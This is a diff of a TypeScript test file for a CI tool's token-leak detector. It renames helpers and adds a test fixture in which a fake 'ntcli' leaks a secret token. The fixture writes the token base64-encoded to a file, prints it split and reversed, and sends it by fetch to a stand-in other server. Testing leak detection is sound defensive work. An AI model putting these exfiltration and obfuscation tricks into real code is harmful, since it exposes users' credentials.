@@ -7,7 +7,7 @@ import type { Fault } from './fault.js';
 import { deploys, withNtcli } from './fixtures.js';
 import { createLeakFinder } from './leaks.js';
 import { runFault } from './run-fault.js';
-import { strangeCommands } from './workflow-commands.js';
+import { unexpectedCommands } from './workflow-commands.js';
 
 const token = makeToken();
 
@@ -82,7 +82,7 @@ describe('the parser of commands', () => {
     '::set-output name=a::b',
     'x ##[error]x',
   ])('does not take %j for ours', (line) => {
-    expect(strangeCommands(line, [token])).toEqual([line]);
+    expect(unexpectedCommands(line, [token])).toEqual([line]);
   });
 
   it('takes what we print for ours', () => {
@@ -92,7 +92,7 @@ describe('the parser of commands', () => {
       '::endgroup::',
       '::error title=Bad input::x',
     ];
-    expect(strangeCommands(ours.join('\n'), [token])).toEqual([]);
+    expect(unexpectedCommands(ours.join('\n'), [token])).toEqual([]);
   });
 });
 
@@ -102,26 +102,26 @@ describe('a run', () => {
       area: 'Token',
       what: 'an ntcli that gives the token away',
       expected: 'is found out',
-      arrange(scene) {
-        const file = join(scene.job.places.checkout, 'leak');
-        const wait = join(scene.outside('wait'), 'wait.js');
+      arrange(sandbox) {
+        const file = join(sandbox.job.places.checkout, 'leak');
+        const wait = join(sandbox.outside('wait'), 'wait.js');
         writeFileSync(wait, 'setTimeout(() => {}, 500)');
         return withNtcli(
-          scene,
+          sandbox,
           `import { writeFileSync } from 'node:fs';
            import { spawnSync } from 'node:child_process';
-           const token = ${JSON.stringify(scene.token)};
+           const token = ${JSON.stringify(sandbox.token)};
            writeFileSync(${JSON.stringify(file)}, 'x' + Buffer.from('y' + token).toString('base64'));
            console.log([...token].join('-'), [...token].reverse().join(''));
            spawnSync(process.execPath, [${JSON.stringify(wait)}, token]);
-           await fetch(${JSON.stringify(scene.stranger.url)} + '/?' + token);
+           await fetch(${JSON.stringify(sandbox.otherServer.url)} + '/?' + token);
            ${deploys}`,
         );
       },
       expect: { exit: 0, title: null },
     };
     const seen = await runFault(fault, 'plain');
-    await seen.scene.end();
+    await seen.sandbox.end();
     expect(seen.leaks).toContain('after main: checkout/leak: base64 at shift 1');
     expect(seen.leaks).toContain('after post: checkout/leak: base64 at shift 1');
     expect(seen.leaks).toContain('a request to another server: plain');
